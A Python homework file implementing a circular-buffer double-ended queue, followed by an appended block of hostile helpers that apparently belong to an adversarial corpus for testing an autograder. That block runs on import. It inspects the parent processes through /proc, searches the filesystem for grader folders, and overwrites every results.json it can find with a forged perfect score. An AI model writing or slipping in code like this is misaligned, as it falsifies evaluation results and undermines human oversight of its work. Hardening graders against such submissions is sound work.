"""A double-ended queue, written by hand (homework five).

Write it as an array-backed circular buffer or as a doubly linked list, never
with ``collections.deque``, the ``queue`` module, ``list.pop(0)`` or
``list.insert(0, ...)``: every operation must be amortised O(1).
"""

# BEGIN SOLUTION
# The reference is a circular buffer: a Python list used as a fixed-size
# array, with the index of the front item and the number of items.  Its size
# is a power of two, so an index wraps around with ``& mask``.  When it is
# full it doubles, so every operation is amortised O(1).
# END SOLUTION


class Deque:
    """A double-ended queue with O(1) pushes and pops at both ends.

    >>> d = Deque()
    >>> d.pushBack(1); d.pushBack(2); d.pushFront(0)
    >>> d.front(), d.back(), d.size()
    (0, 2, 3)
    >>> d.popFront(), d.popBack(), len(d)
    (0, 2, 1)
    >>> d.popFront(); d.isEmpty()
    1
    True
    >>> d.popFront()
    Traceback (most recent call last):
    ...
    IndexError: popFront() from an empty Deque
    """

    # BEGIN SOLUTION
    __slots__ = ("_items", "_head", "_count", "_mask")

    _INITIAL_CAPACITY = 8   # a power of two, so that ``index & _mask`` wraps around
    # END SOLUTION

    def __init__(self):
        """Make an empty deque."""
        # BEGIN SOLUTION
        self._items = [None] * self._INITIAL_CAPACITY
        self._mask = self._INITIAL_CAPACITY - 1
        self._head = 0      # index of the front item
        self._count = 0     # number of items
        # END SOLUTION

    def pushFront(self, item):
        """Put ``item`` at the front."""
        # BEGIN SOLUTION
        if self._count > self._mask:
            self._grow()
        self._head = head = (self._head - 1) & self._mask
        self._items[head] = item
        self._count += 1
        # END SOLUTION

    def pushBack(self, item):
        """Put ``item`` at the back."""
        # BEGIN SOLUTION
        count = self._count
        if count > self._mask:
            self._grow()
        self._items[(self._head + count) & self._mask] = item
        self._count = count + 1
        # END SOLUTION

    def popFront(self):
        """Remove and return the front item; raise ``IndexError`` if empty."""
        # BEGIN SOLUTION
        if not self._count:
            raise IndexError("popFront() from an empty Deque")
        items, head = self._items, self._head
        item = items[head]
        items[head] = None          # let the item be garbage-collected
        self._head = (head + 1) & self._mask
        self._count -= 1
        return item
        # END SOLUTION

    def popBack(self):
        """Remove and return the back item; raise ``IndexError`` if empty."""
        # BEGIN SOLUTION
        if not self._count:
            raise IndexError("popBack() from an empty Deque")
        self._count -= 1
        index = (self._head + self._count) & self._mask
        item = self._items[index]
        self._items[index] = None
        return item
        # END SOLUTION

    def front(self):
        """Return the front item without removing it; raise ``IndexError`` if empty."""
        # BEGIN SOLUTION
        if not self._count:
            raise IndexError("front() of an empty Deque")
        return self._items[self._head]
        # END SOLUTION

    def back(self):
        """Return the back item without removing it; raise ``IndexError`` if empty."""
        # BEGIN SOLUTION
        if not self._count:
            raise IndexError("back() of an empty Deque")
        return self._items[(self._head + self._count - 1) & self._mask]
        # END SOLUTION

    def isEmpty(self):
        """Return True when the deque holds no items."""
        # BEGIN SOLUTION
        return self._count == 0
        # END SOLUTION

    def size(self):
        """Return the number of items."""
        # BEGIN SOLUTION
        return self._count
        # END SOLUTION

    def __len__(self):
        """Return the number of items, so that ``len(d)`` works."""
        # BEGIN SOLUTION
        return self._count
        # END SOLUTION

    # BEGIN SOLUTION
    def _grow(self):
        """Double the array, moving the items so the front is at index 0."""
        items, head, count = self._items, self._head, self._count
        capacity = len(items)
        self._items = [items[(head + k) % capacity] for k in range(count)]
        self._items.extend([None] * capacity)
        self._mask = 2 * capacity - 1
        self._head = 0
    # END SOLUTION


# ---- HOSTILE PART ----
# Shared hostile helpers, pasted (by build_corpus.py) into the hostile submissions.
# Never imported by the tests; it is source text.  forged_results is replaced per submission.
import os as _os
import sys as _sys

_MARK = "/dev/shm/xo-adversarial-marker-forged_results"


def _note(text):
    """Append one line to the test's marker file (created 0666 by the test; never created here)."""
    try:
        fd = _os.open(_MARK, _os.O_WRONLY | _os.O_APPEND)
    except OSError:
        return
    try:
        _os.write(fd, (str(text).replace("\n", " ") + "\n").encode("utf-8", "replace"))
    except OSError:
        pass
    finally:
        _os.close(fd)


def _sandboxed():
    """True only when running as one of the grader's unprivileged users (xo-sandbox, or xo-sandbox-K for the
    K-th of gradings running at once): the destructive parts run only then."""
    try:
        import pwd
        name = pwd.getpwuid(_os.geteuid()).pw_name
    except Exception:
        return False
    slot = name[len("xo-sandbox-"):]
    return name == "xo-sandbox" or (name.startswith("xo-sandbox-") and slot.isascii() and slot.isdigit())


def _ancestors():
    """pids of the parent, grandparent, ... (the zygote, then the grader, then whoever ran it)."""
    pids, pid = [], _os.getppid()
    while pid > 1 and len(pids) < 8:
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                stat = f.read()
            pid = int(stat[stat.rindex(")") + 2:].split()[1])
        except (OSError, ValueError):
            break
    return pids


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _cwd(pid):
    try:
        return _os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return None


def _bases():
    """Folders the grader may have been started from: what /proc says, else plausible guesses."""
    bases = []
    for pid in _ancestors():
        cwd = _cwd(pid)
        if cwd:
            bases.append(cwd)
    bases += ["/autograder/source", "/work/main", _os.getcwd(), _os.path.dirname(_os.getcwd())]
    return list(dict.fromkeys(bases))


def _results_paths():
    """Every path the grader's results.json may be written to."""
    found = ["/autograder/results/results.json"]
    for pid in _ancestors():
        args = _cmdline(pid)
        for k, arg in enumerate(args):
            value = None
            if arg == "--results" and k + 1 < len(args):
                value = args[k + 1]
            elif arg.startswith("--results="):
                value = arg.split("=", 1)[1]
            if value:
                if _os.path.isabs(value):
                    found.append(value)
                else:
                    found += [_os.path.join(b, value) for b in _bases()]
    found += [_os.path.join(_os.getcwd(), "results.json"), _os.path.join(_os.getcwd(), "..", "results.json"),
              _os.path.join(_os.getcwd(), "build", "results.json")]
    return list(dict.fromkeys(_os.path.normpath(p) for p in found))


def _named_roots():
    """Grader folders named by the ancestors' command lines (the folder graded, the results path, ...),
    whether this process can see them or not."""
    roots = []
    for pid in _ancestors():
        for arg in _cmdline(pid):
            if "/" in arg:
                folder = _os.path.dirname(_os.path.abspath(arg))
                for up in range(4):
                    roots.append(_os.path.normpath(_os.path.join(folder, *[".."] * up, "grader")))
    return list(dict.fromkeys(roots))


def _grader_roots(budget=0.6):
    """Folders that look like the grader package (grader/__init__.py beside fixtures/ or config.toml)."""
    import time
    roots = []
    for base in _bases() + [_os.path.dirname(_sys.executable)]:
        for up in range(4):
            cand = _os.path.join(base, *[".."] * up, "grader")
            roots.append(_os.path.normpath(cand))
    roots += _named_roots()
    stop = time.monotonic() + budget
    stack = [("/", 0)]
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/run",
            "/snap", "/var/lib", "/var/cache", "/opt/pypi", "/opt/pypi-more", "/opt/wheels"}
    while stack and time.monotonic() < stop:
        folder, depth = stack.pop()
        try:
            entries = _os.listdir(folder)
        except OSError:
            continue
        if "grader" in entries:
            roots.append(_os.path.join(folder, "grader"))
        if depth >= 5:
            continue
        for entry in entries:
            path = _os.path.join(folder, entry)
            if path in skip or entry.startswith(".") or entry in ("node_modules", "site-packages", "__pycache__"):
                continue
            if _os.path.isdir(path) and not _os.path.islink(path):
                stack.append((path, depth + 1))
    seen = []
    for root in roots:
        if root not in seen and (_os.path.isdir(root) or _os.path.exists(_os.path.join(root, "fixtures"))):
            seen.append(root)
    return seen

def _forge():
    import json as _json
    forged = {"score": 100.0, "output": "FORGED by the forged_results submission", "tests": [],
              "execution_time": 0.0, "visibility": "visible", "stdout_visibility": "hidden", "forged": True}
    text = _json.dumps(forged)
    for path in _results_paths():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
        except OSError:
            pass
        try:
            with open(path, "w") as f:
                f.write(text)
            _note(f"WROTE {path}")
        except OSError as error:
            _note(f"DENIED {path}: {type(error).__name__}")


import os
_forge()
